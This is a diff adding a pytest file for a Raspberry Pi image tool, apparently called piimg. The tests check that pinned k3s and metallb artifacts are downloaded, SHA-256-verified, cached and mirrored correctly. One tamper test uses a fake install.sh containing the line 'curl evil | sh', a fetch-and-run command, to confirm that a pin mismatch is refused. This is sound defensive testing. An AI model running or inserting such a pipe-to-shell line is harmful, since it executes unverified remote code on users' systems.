@@ -1,0 +1,243 @@
+"""Pinned cluster artefacts against a real HTTP server on 127.0.0.1 (tests/releaseserver.py)."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import io
+import tarfile
+from pathlib import Path
+
+import pytest
+import yaml
+
+from piimg import versions
+from piimg.errors import ConfigError, DownloadError
+from piimg.fetch import artifacts
+from piimg.fetch.cache import Cache
+from piimg.fetch.download import RetryPolicy
+from piimg.fetch.source import Fetcher
+from piimg.spec import load as spec_load
+from piimg.spec.model import Arch
+from tests.httpserver import Fault
+from tests.releaseserver import VERSION, Published, path_of
+
+FAST = RetryPolicy(attempts=3, first_delay=0.01, max_delay=0.02, connect_timeout=2, read_timeout=2)
+KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGh0ZXN0a2V5Zm9ycGlpbWd0ZXN0c29ubHkxMjM0NTY3OA t@t"
+SCHEMAS = Path(__file__).parent / "schemas"
+
+
+def _spec(mirror: str, **cluster: object) -> object:
+    doc = {"access": {"ssh_authorized_keys": [KEY]}, "cluster": {"artifact_mirror": mirror, **cluster}}
+    return spec_load.loads(yaml.safe_dump(doc), env={})
+
+
+def _fetcher(tmp_path: Path, *, offline: bool = False, verify: bool = False) -> Fetcher:
+    return Fetcher(cache=Cache(tmp_path / "cache"), offline=offline, verify=verify, policy=FAST)
+
+
+def _cached(tmp_path: Path) -> list[str]:
+    root = tmp_path / "cache" / "artifacts"
+    return sorted(p.name for p in root.rglob("*") if p.is_file() and p.name != "by-url.json") if root.exists() else []
+
+
+def test_fetches_verifies_and_caches_everything(k3s_release: Published, tmp_path: Path) -> None:
+    spec = _spec(k3s_release.mirror, airgap=True)
+    got = artifacts.obtain_cluster_artifacts(spec, "arm64", _fetcher(tmp_path))  # type: ignore[arg-type]
+    rel = k3s_release.rel
+    k = got.k3s
+    assert (k.version, k.arch) == (VERSION, "arm64")
+    assert k.install_sh.path.read_bytes() == rel.files[f"{versions.K3S_SOURCE_URL}/{VERSION}/install.sh"]
+    assert k.binary.path.read_bytes() == rel.files[rel.url("k3s-arm64")]
+    assert k.binary.sha256 == hashlib.sha256(k.binary.path.read_bytes()).hexdigest()
+    assert k.airgap_images is not None and k.airgap_images.name == "k3s-airgap-images-arm64.tar.zst"
+    # the default ingress (nginx) is not pinned by content: no digest derivable (piimg/versions.py)
+    assert sorted(got.charts) == ["metallb"]
+    # every request went to the mirror, laid out as <host>/<path> of the upstream URL
+    assert set(rel.requested()) == {
+        f"/raw.githubusercontent.com/k3s-io/k3s/{VERSION}/install.sh",
+        f"/github.com/k3s-io/k3s/releases/download/{VERSION}/sha256sum-arm64.txt",
+        f"/github.com/k3s-io/k3s/releases/download/{VERSION}/k3s-arm64",
+        f"/github.com/k3s-io/k3s/releases/download/{VERSION}/k3s-airgap-images-arm64.tar.zst",
+        "/github.com/metallb/metallb/releases/download/metallb-chart-0.16.1/metallb-0.16.1.tgz",
+    }
+    # a second run (even offline) takes all from the cache: no request at all
+    rel.srv.reset_log()
+    again = artifacts.obtain_cluster_artifacts(spec, "arm64", _fetcher(tmp_path, offline=True))  # type: ignore[arg-type]
+    assert again == got and rel.requested() == []
+
+
+def test_armhf_takes_the_arm_sums_file(k3s_release: Published, tmp_path: Path) -> None:
+    spec = _spec(k3s_release.mirror)
+    got = artifacts.obtain_cluster_artifacts(spec, "armhf", _fetcher(tmp_path))  # type: ignore[arg-type]
+    assert got.k3s.binary.name == "k3s-armhf" and got.k3s.airgap_images is None
+    assert f"/github.com/k3s-io/k3s/releases/download/{VERSION}/sha256sum-arm.txt" in k3s_release.rel.requested()
+
+
+def test_resumes_an_interrupted_binary_download(k3s_release: Published, tmp_path: Path) -> None:
+    rel = k3s_release.rel
+    path = path_of(rel.url("k3s-arm64"))
+    rel.srv.faults[path] = Fault(drop_after=5000, times=1)
+    got = artifacts.obtain_cluster_artifacts(_spec(rel.mirror), "arm64", _fetcher(tmp_path))  # type: ignore[arg-type]
+    assert got.k3s.binary.path.read_bytes() == rel.files[rel.url("k3s-arm64")]
+    ranges = [r.range for r in rel.srv.requests_for(path)]
+    assert ranges[0] is None and ranges[-1] == "bytes=5000-", ranges
+
+
+def test_binary_not_matching_the_sums_file_is_refused_and_not_cached(k3s_release: Published, tmp_path: Path) -> None:
+    rel = k3s_release.rel
+    rel.put(rel.url("k3s-arm64"), b"a different binary than the release's sha256sum file says")
+    with pytest.raises(DownloadError, match=r"k3s-arm64: SHA-256 mismatch: expected [0-9a-f]{64} \(sha256sum-arm64.txt"):
+        artifacts.obtain_cluster_artifacts(_spec(rel.mirror), "arm64", _fetcher(tmp_path))  # type: ignore[arg-type]
+    assert "k3s-arm64" not in _cached(tmp_path)
+    assert not list((tmp_path / "cache" / "downloads").glob("*k3s-arm64*")), "the bad download was left behind"
+
+
+def test_install_sh_not_matching_the_pin_is_refused(k3s_release: Published, tmp_path: Path) -> None:
+    rel = k3s_release.rel
+    rel.put(f"{versions.K3S_SOURCE_URL}/{VERSION}/install.sh", b"#!/bin/sh\ncurl evil | sh\n")
+    with pytest.raises(DownloadError, match=r"install.sh: SHA-256 mismatch.*K3S_INSTALL_SH_SHA256"):
+        artifacts.obtain_cluster_artifacts(_spec(rel.mirror), "arm64", _fetcher(tmp_path))  # type: ignore[arg-type]
+    assert _cached(tmp_path) == []
+
+
+def test_tampered_chart_is_refused(k3s_release: Published, tmp_path: Path) -> None:
+    rel = k3s_release.rel
+    rel.put(versions.METALLB_CHARTS[versions.METALLB_VERSION].url, b"not the pinned chart")
+    with pytest.raises(DownloadError, match=r"metallb-0.16.1.tgz: SHA-256 mismatch"):
+        artifacts.obtain_cluster_artifacts(_spec(rel.mirror), "arm64", _fetcher(tmp_path))  # type: ignore[arg-type]
+    assert "metallb-0.16.1.tgz" not in _cached(tmp_path)
+
+
+def test_a_release_without_the_architecture_is_refused(k3s_release: Published, tmp_path: Path) -> None:
+    rel = k3s_release.rel
+    sums = rel.url("sha256sum-arm.txt")
+    rel.put(sums, b"".join(line + b"\n" for line in rel.files[sums].splitlines() if b"k3s-armhf" not in line))
+    with pytest.raises(DownloadError, match=r"sha256sum-arm.txt of k3s .* lists no k3s-armhf"):
+        artifacts.obtain_cluster_artifacts(_spec(rel.mirror), "armhf", _fetcher(tmp_path))  # type: ignore[arg-type]
+    assert "k3s-armhf" not in _cached(tmp_path)
+    rel.drop(sums)
+    with pytest.raises(DownloadError, match=r"has no sha256sum-arm.txt"):
+        artifacts.obtain_cluster_artifacts(_spec(rel.mirror), "armhf", _fetcher(tmp_path / "other"))  # type: ignore[arg-type]
+
+
+def test_offline_with_an_empty_cache_names_what_is_missing(k3s_release: Published, tmp_path: Path) -> None:
+    with pytest.raises(DownloadError, match=r"offline: install.sh \(sha256 [0-9a-f]{64}\) is not in the cache"):
+        artifacts.obtain_cluster_artifacts(_spec(k3s_release.mirror), "arm64", _fetcher(tmp_path, offline=True))  # type: ignore[arg-type]
+    assert k3s_release.rel.requested() == []
+
+
+def test_verify_replaces_a_corrupted_cache_entry(k3s_release: Published, tmp_path: Path) -> None:
+    spec = _spec(k3s_release.mirror)
+    got = artifacts.obtain_cluster_artifacts(spec, "arm64", _fetcher(tmp_path))  # type: ignore[arg-type]
+    got.k3s.binary.path.write_bytes(b"bit rot")
+    k3s_release.rel.srv.reset_log()
+    again = artifacts.obtain_cluster_artifacts(spec, "arm64", _fetcher(tmp_path, verify=True))  # type: ignore[arg-type]
+    assert again.k3s.binary.path.read_bytes() == k3s_release.rel.files[k3s_release.rel.url("k3s-arm64")]
+    assert k3s_release.rel.requested() == [path_of(k3s_release.rel.url("k3s-arm64"))]
+
+
+def test_chart_content_is_the_pinned_archive_and_fits_the_helmchart_schema(k3s_release: Published, tmp_path: Path) -> None:
+    from piimg.manifests import render_addons
+    from piimg.spec.secrets import Secrets
+
+    spec = _spec(k3s_release.mirror, ingress="ingress-nginx")
+    got = artifacts.obtain_cluster_artifacts(spec, "arm64", _fetcher(tmp_path))  # type: ignore[arg-type]
+    files = render_addons(spec, Secrets(k3s_token="t"), charts=got.charts)  # type: ignore[arg-type]
+    from tests.manifests_helpers import validate_object  # the HelmChart CRD of k3s's helm-controller (tests/schemas)
+
+    charts = [d for text in files.values() for d in yaml.safe_load_all(text) if d and d["kind"] == "HelmChart"]
+    assert sorted(c["metadata"]["name"] for c in charts) == ["ingress-nginx", "metallb"]
+    for chart in charts:
+        validate_object(chart)
+        spec_ = chart["spec"]
+        assert "version" not in spec_ and "repo" not in spec_ and "chart" not in spec_, "fetched by version at deploy time"
+        data = base64.b64decode(spec_["chartContent"], validate=True)
+        pin = k3s_release.charts[chart["metadata"]["name"]]
+        assert hashlib.sha256(data).hexdigest() == pin.sha256
+        with tarfile.open(fileobj=io.BytesIO(data)) as tar:
+            meta = yaml.safe_load(tar.extractfile(f"{pin.name}/Chart.yaml").read())  # type: ignore[union-attr]
+        assert (meta["name"], meta["version"]) == (pin.name, pin.version)
+
+
+# -- spec and name rules -----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("names", "arch"),
+    [
+        (("https://downloads.raspberrypi.com/raspios_lite_arm64/images/raspios_lite_arm64-2025-05-13/"
+          "2025-05-13-raspios-bookworm-arm64-lite.img.xz",), "arm64"),
+        (("https://downloads.raspberrypi.com/raspios_lite_armhf/images/raspios_lite_armhf-2025-05-13/"
+          "2025-05-13-raspios-bookworm-armhf-lite.img.xz",), "armhf"),
+        (("/tmp/x.img", "ubuntu-24.04-preinstalled-server-arm64+raspi.img.xz"), "arm64"),
+    ],
+)
+def test_architecture_from_the_image_name(names: tuple[str, ...], arch: str) -> None:
+    assert artifacts.image_arch(Arch.AUTO, *names) == arch
+
+
+def test_architecture_rules() -> None:
+    assert artifacts.image_arch(Arch.ARMHF, "raspios-arm64.img") == "armhf"  # image.arch wins
+    with pytest.raises(ConfigError, match=r"image.arch: .*armel.* ARMv6 image: k3s publishes no ARMv6 build"):
+        artifacts.image_arch(Arch.AUTO, "/img/raspbian-armel.img")
+    with pytest.raises(ConfigError, match=r"image.arch: cannot tell the architecture of /img/base.img") as exc:
+        artifacts.image_arch(Arch.AUTO, "/img/base.img")
+    assert "image.arch: arm64" in (exc.value.hint or "")
+
+
+def test_channel_unpinned_version_and_metallb_refused_before_download(k3s_release: Published) -> None:
+    with pytest.raises(ConfigError, match=r"cluster.k3s_version: 'stable' is a channel"):
+        artifacts.check_pins(_spec(k3s_release.mirror, k3s_version="stable"))  # type: ignore[arg-type]
+    with pytest.raises(ConfigError, match=r"cluster.k3s_install_sha256: .* v1.30.0\+k3s1 needs its SHA-256"):
+        artifacts.check_pins(_spec(k3s_release.mirror, k3s_version="v1.30.0+k3s1"))  # type: ignore[arg-type]
+    artifacts.check_pins(_spec(k3s_release.mirror, k3s_version="v1.30.0+k3s1", k3s_install_sha256="a" * 64))  # type: ignore[arg-type]
+    with pytest.raises(ConfigError, match=r"cluster.metallb_version: .* not v0.15.2"):
+        artifacts.check_pins(_spec(k3s_release.mirror, metallb_version="v0.15.2"))  # type: ignore[arg-type]
+    assert k3s_release.rel.requested() == []
+
+
+def test_user_pinned_install_script_for_another_version(k3s_release: Published, tmp_path: Path) -> None:
+    from tests.releaseserver import publish
+
+    pins = publish(k3s_release.rel, "v1.30.0+k3s1")
+    spec = _spec(k3s_release.mirror, k3s_version="v1.30.0+k3s1", k3s_install_sha256=pins["install.sh"].upper())
+    got = artifacts.obtain_cluster_artifacts(spec, "arm64", _fetcher(tmp_path))  # type: ignore[arg-type]
+    assert got.k3s.version == "v1.30.0+k3s1"
+
+
+def test_mirror_url_layout() -> None:
+    url = f"{versions.K3S_RELEASES_URL}/{VERSION}/k3s-arm64"
+    assert artifacts.mirrored(url, None) == url
+    assert artifacts.mirrored(url, "https://m.lan/piimg/") == (
+        f"https://m.lan/piimg/github.com/k3s-io/k3s/releases/download/{VERSION}/k3s-arm64"
+    )
+
+
+@pytest.mark.parametrize(
+    ("value", "message"),
+    [
+        ("ftp://m.lan/x", "is not an http(s) URL"),
+        ("https://", "is not an http(s) URL"),
+        ("http://mirror.lan/piimg", "plain http:// is only accepted for a loopback address"),
+        ("https://m.lan/x?token=1", "a base URL has no ?query"),
+        (12, "is not an http(s) URL"),
+    ],
+)
+def test_artifact_mirror_validation(value: object, message: str) -> None:
+    doc = {"access": {"ssh_authorized_keys": [KEY]}, "cluster": {"artifact_mirror": value}}
+    with pytest.raises(ConfigError) as exc:
+        spec_load.loads(yaml.safe_dump(doc), env={})
+    assert exc.value.key == "cluster.artifact_mirror" and message in exc.value.message
+
+
+def test_spec_keys_parse() -> None:
+    doc = {"access": {"ssh_authorized_keys": [KEY]}, "image": {"arch": "armhf"},
+           "cluster": {"artifact_mirror": "http://127.0.0.1:8080/m/", "airgap": True, "k3s_install_sha256": "B" * 64}}
+    spec = spec_load.loads(yaml.safe_dump(doc), env={})
+    assert spec.image.arch is Arch.ARMHF and spec.cluster.airgap is True
+    assert spec.cluster.artifact_mirror == "http://127.0.0.1:8080/m" and spec.cluster.k3s_install_sha256 == "b" * 64
+    for key, bad in (("image", {"arch": "armv6"}), ("cluster", {"airgap": "yes"}), ("cluster", {"k3s_install_sha256": "xyz"})):
+        with pytest.raises(ConfigError) as exc:
+            spec_load.loads(yaml.safe_dump({"access": {"ssh_authorized_keys": [KEY]}, key: bad}), env={})
+        assert exc.value.key == f"{key}.{next(iter(bad))}"
